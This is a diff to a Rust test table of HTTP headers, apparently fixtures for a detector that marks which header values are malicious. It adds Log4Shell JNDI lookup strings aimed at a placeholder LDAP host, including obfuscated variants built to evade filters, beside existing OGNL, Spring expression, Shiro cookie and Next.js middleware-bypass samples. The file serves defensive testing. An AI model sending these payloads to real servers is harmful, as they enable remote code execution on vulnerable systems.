@@ -328,6 +328,10 @@ const FIELDS: &[(&str, &str, bool)] = &[
     ("cookie", "rememberMe=rO0ABXNy", true),
     ("accept-language", "${jndi:ldap://192.0.2.1}", true),
     ("origin", "${jndi:ldap://192.0.2.1}", true),
+    ("if-modified-since", "${jndi:ldap://192.0.2.1}", true),
+    ("authorization", "Basic ${jndi:ldap://192.0.2.1}", true),
+    ("content-type", "${${::-j}ndi:ldap://192.0.2.1}", true),
+    ("x-client-ip", "${${lower:j}ndi:ldap://192.0.2.1}", true),
     ("content-type", "%{(#_='x').(#dm=@ognl.OgnlContext@X)}", true),
     ("spring.cloud.function.routing-expression", "T(x)", true),
     ("x-middleware-subrequest", "middleware:middleware", true),
@@ -336,6 +340,7 @@ const FIELDS: &[(&str, &str, bool)] = &[
     ("accept-language", "en-US,en;q=0.9", false),
     ("origin", "https://a.example", false),
     ("x-api-version", "2", false),
+    ("x-real-ip", "192.0.2.1", false),
 ];
 
 #[test]
